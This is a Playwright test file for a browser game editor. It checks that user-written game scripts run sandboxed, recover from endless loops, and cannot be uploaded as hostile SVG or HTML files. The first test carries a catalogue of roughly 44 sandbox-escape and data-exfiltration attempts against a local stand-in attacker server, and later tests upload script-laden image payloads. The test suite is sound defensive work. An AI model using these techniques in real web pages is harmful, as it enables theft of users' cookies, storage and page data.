import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Locator } from "@playwright/test";
import { expect, test } from "../app.ts";

/** Every attack of a hostile script. Each attempt logs `name: refused` or `name: DONE`. */
const attacks = (evil: string): string => `
const link = (rel) => new Promise((done, failed) => { const l = document.createElement("link"); l.rel = rel; l.href = "${evil}/" + rel; document.head.append(l); setTimeout(failed, 300); });
const tries = {
  cookie: () => { if (document.cookie) return; document.cookie = "stolen=1"; if (!document.cookie) throw new Error("no cookies"); },
  localStorage: () => globalThis.localStorage.length,
  sessionStorage: () => globalThis.sessionStorage.length,
  indexedDB: () => new Promise((done, failed) => { const r = globalThis.indexedDB.open("x"); r.onsuccess = done; r.onerror = () => failed(r.error); }),
  parentDom: () => globalThis.parent.document.body.innerHTML,
  topLocation: () => { globalThis.top.location.href = "${evil}/top"; },
  open: () => { if (!globalThis.open("${evil}/open")) throw new Error("no window"); },
  fetch: () => globalThis.fetch("${evil}/fetch"),
  fetchHost: () => globalThis.fetch("/api/auth/token", { method: "POST", credentials: "include" }),
  xhr: () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.open("GET", "${evil}/xhr"); x.onload = done; x.onerror = failed; x.send(); }),
  beacon: () => { if (!navigator.sendBeacon("${evil}/beacon")) throw new Error("refused"); return new Promise((_, failed) => setTimeout(failed, 500)); },
  socket: () => new Promise((done, failed) => { const s = new WebSocket("${evil.replace("http", "ws")}/socket"); s.onopen = done; s.onerror = failed; }),
  events: () => new Promise((done, failed) => { const s = new EventSource("${evil}/events"); s.onopen = done; s.onerror = failed; }),
  image: () => new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = failed; i.src = "${evil}/image"; }),
  styleSheet: () => new Promise((done, failed) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = done; l.onerror = failed; l.href = "${evil}/style"; document.head.append(l); }),
  script: () => import("${evil}/script"),
  worker: () => new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => e.data ? done() : failed(); w.onerror = failed; }),
  rtc: () => { new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); },
  form: () => { const f = document.createElement("form"); f.action = "${evil}/form"; f.target = "_top"; document.body.append(f); f.submit(); return new Promise((_, failed) => setTimeout(failed, 500)); },
  frame: () => { const f = document.createElement("iframe"); f.src = "${evil}/frame"; document.body.append(f); return new Promise((_, failed) => setTimeout(failed, 500)); },
  preconnect: () => link("preconnect"),
  dnsPrefetch: () => link("dns-prefetch"),
  prefetch: () => link("prefetch"),
  modulePreload: () => link("modulepreload"),
  frameByName: () => { customElements.define("x-f", class extends HTMLIFrameElement {}, { extends: "iframe" }); const f = document.createElement("iframe", { is: "x-f" }); f.src = "${evil}/custom"; document.body.append(f); },
  frameBySvg: () => { const f = document.createElementNS("http://www.w3.org/1999/xhtml", "html:iframe"); f.src = "${evil}/ns"; document.body.append(f); },
  frameByTemplate: () => { const t = document.createElement("template"); t.innerHTML = "<iframe src='${evil}/template'></iframe>"; document.body.append(t.content); if (!document.querySelector("iframe")) throw new Error("no frame"); },
  frameByParser: () => { document.body.append(...new DOMParser().parseFromString("<iframe src='${evil}/parser'></iframe>", "text/html").body.children); if (!document.querySelector("iframe")) throw new Error("no frame"); },
  object: () => { const o = document.createElement("object"); o.data = "${evil}/object"; document.body.append(o); },
  refresh: () => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${evil}/refresh"; document.head.append(m); },
  ping: () => { const a = document.createElement("a"); a.href = "#x"; a.ping = "${evil}/ping"; document.body.append(a); a.click(); },
  anchor: () => { const a = document.createElement("a"); a.href = "${evil}/anchor"; document.body.append(a); a.click(); },
  media: () => { const a = new Audio("${evil}/media"); return a.play(); },
  video: () => { const v = document.createElement("video"); v.src = "${evil}/video"; document.body.append(v); return v.play(); },
  font: () => new FontFace("x", "url(${evil}/font)").load(),
  css: () => new Promise((_, failed) => { document.body.style.background = "url(${evil}/css)"; setTimeout(failed, 300); }),
  svgImage: () => new Promise((_, failed) => { const s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.setAttribute("href", "${evil}/svg"); document.body.append(s); setTimeout(failed, 300); }),
  transport: () => new WebTransport("${evil.replace("http:", "https:")}/transport").ready,
  sharedWorker: () => { new SharedWorker("${evil}/shared"); },
  serviceWorker: () => navigator.serviceWorker.register("${evil}/sw"),
  reports: () => { const r = new ReportingObserver(() => {}); r.observe(); },
  later: () => fetchLater("${evil}/later"),
  notifications: () => { new Notification("x", { icon: "${evil}/icon" }); },
  fullScreen: () => document.body.requestFullscreen(),
  leave: () => { location.href = "${evil}/leave?" + encodeURIComponent(document.title); return new Promise((_, failed) => setTimeout(failed, 500)); },
};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); console.log(name + ": DONE"); } catch { console.log(name + ": refused"); }
}
`;

test("a hostile game reads nothing of the app, reaches no network and can't navigate its host", async ({ app, page }) => {
  const reached: string[] = [];
  const evilServer = createServer((request, response) => {
    reached.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("export default 1");
  });
  let connections = 0;
  evilServer.on("connection", () => connections++);
  await new Promise<void>((resolve) => evilServer.listen(0, "127.0.0.1", resolve));
  const evil = `http://127.0.0.1:${(evilServer.address() as AddressInfo).port}`;

  await app.registerWith("Platformer", "Trojan");
  await page.getByRole("button", { name: "Play", exact: true }).click();
  await expect(page.getByText(/\d+ fps/)).toBeVisible();
  const frame = page.frames().find((candidate) => candidate.url().includes("/player/"));
  if (!frame) throw new Error("no player frame");

  // The worst case: the attacker controls the player page and bypasses all guards of the engine.
  const said: string[] = [];
  page.on("console", (message) => said.push(message.text()));
  await frame.evaluate(`(async () => {${attacks(evil)}})()`).catch(() => undefined);
  await expect.poll(() => said.filter((line) => /: (refused|DONE)$/.test(line)).length).toBeGreaterThanOrEqual(44);
  expect(said.filter((line) => line.endsWith(": DONE"))).toEqual([]);
  expect(reached).toEqual([]);
  // Navigation is last: nothing prevents the browser from resolving the name and opening a connection before it refuses.
  await expect(page.getByRole("alert").getByText("The game was stopped: it tried to leave for another page.")).toBeVisible();
  expect(connections).toBeLessThanOrEqual(1);
  expect(page.url()).toContain("/project/");
  await expect(page.getByRole("button", { name: "Stop the game" })).toBeVisible();
  // CSP violations are expected here.
  app.problems.length = 0;
  // Browsers open spare connections; the server would wait a minute for their first request.
  evilServer.closeAllConnections();
  await new Promise((resolve) => evilServer.close(resolve));
});

test("a script can't reach browser APIs, and its errors name their line", async ({ app, page }) => {
  await app.registerWith("Empty", "Scripted");
  await page.getByRole("button", { name: "Add a prefab" }).click();
  await app.placePrefabAt("Object", { x: 300, y: 250 });
  await page.getByRole("button", { name: /^Edit prefab/ }).click();
  await page.getByRole("button", { name: "Write a script" }).click();
  const source = page.getByLabel("Script source");
  await source.fill(`export default class extends Script {
  onCreate() {
    console.log("begun");

    const missing = undefined as unknown as { boom(): void };
    missing.boom();
  }
}`);
  await source.blur();
  await app.saved();
  await page.getByRole("button", { name: "Play", exact: true }).click();
  const console = page.getByRole("region", { name: "Console" });
  await expect(console.getByRole("button", { name: /:6$/ })).toBeVisible();
  await expect(console.getByText(/boom/)).toBeVisible();
  await expect(console.getByText("begun", { exact: true })).toBeVisible();
  await page.getByRole("button", { name: "Stop the game" }).click();
  await source.fill(`export default class extends Script {
  onCreate() {
    fetch("/api/health");
    parent.postMessage("playsmith:player-ready", "*");
  }
}`);
  await source.blur();
  await app.saved();
  await page.getByRole("button", { name: "Play", exact: true }).click();
  await expect(console.getByText(/Scripts can't use fetch. A game has no network/)).toBeVisible();
  await expect(console.getByText(/There is nothing called parent/)).toBeVisible();
});

test("a game in an endless loop runs again with Restart after its script is fixed", async ({ app, page }) => {
  await app.registerWith("Empty", "Stuck");
  await page.getByRole("button", { name: "Add a prefab" }).click();
  await app.placePrefabAt("Object", { x: 300, y: 250 });
  await page.getByRole("button", { name: /^Edit prefab/ }).click();
  await page.getByRole("button", { name: "Write a script" }).click();
  const source = page.getByLabel("Script source");
  const write = async (body: string): Promise<void> => {
    await source.fill(`export default class extends Script {\n  onCreate() {\n    ${body}\n  }\n}`);
    await source.blur();
    await app.saved();
  };
  await write("for (;;) {}");
  await page.getByRole("button", { name: "Play", exact: true }).click();
  const console = page.getByRole("region", { name: "Console" });
  await expect(console.getByText(/This loop did not end/)).toBeVisible();
  await write('console.log("alive in tick", game.tick);');
  const game = page.getByRole("region", { name: "Running game" });
  await game.getByRole("button", { name: "Restart" }).click();
  await expect(console.getByText(/^alive in tick/)).toBeVisible();
  await expect(game.getByText(/\d+ fps .* 1 object$/)).toBeVisible();

  // A player that no longer answers, without any guard of the engine.
  const hang = async (): Promise<void> => {
    const frame = page.frames().find((candidate) => candidate.url().includes("/player/"));
    await frame?.evaluate("void setTimeout(() => { for (;;) {} }, 50)");
    await expect(game.getByRole("alert")).toContainText("The game stopped responding");
  };
  // Playwright's own clicks wait for all frames of the page, including the blocked one.
  const press = (button: Locator): Promise<void> => button.evaluate((element: HTMLElement) => element.click());
  await write('console.log("mended in tick", game.tick);');
  await console.getByRole("button", { name: "Clear the console" }).click();
  await hang();
  await press(game.getByRole("alert").getByRole("button", { name: "Restart" }));
  await expect(console.getByText(/^mended in tick/)).toBeVisible();
  await expect(game.getByText(/\d+ fps .* 1 object$/)).toBeVisible();

  await write('console.log("well in tick", game.tick);');
  await console.getByRole("button", { name: "Clear the console" }).click();
  await hang();
  await press(game.getByRole("button", { name: "Restart" }).first());
  await expect(console.getByText(/^well in tick/)).toBeVisible();
  await expect(game.getByRole("alert")).toHaveCount(0);
});

test("a hostile image is refused or has no effect", async ({ app, page }) => {
  await app.registerWith("Empty", "Gallery");
  const chooser = page.getByLabel("Files to upload");
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>parent.document.title="owned"</script></svg>';
  await chooser.setInputFiles({ name: "evil.png", mimeType: "image/png", buffer: Buffer.from(svg) });
  await expect(page.getByRole("list", { name: "Uploads" }).getByRole("alert")).toContainText("It is a file of the format SVG. Use PNG");
  await chooser.setInputFiles({ name: "page.png", mimeType: "image/png", buffer: Buffer.from("<html><script>alert(1)</script></html>") });
  await expect(page.getByRole("list", { name: "Uploads" }).getByRole("alert")).toHaveCount(2);
});
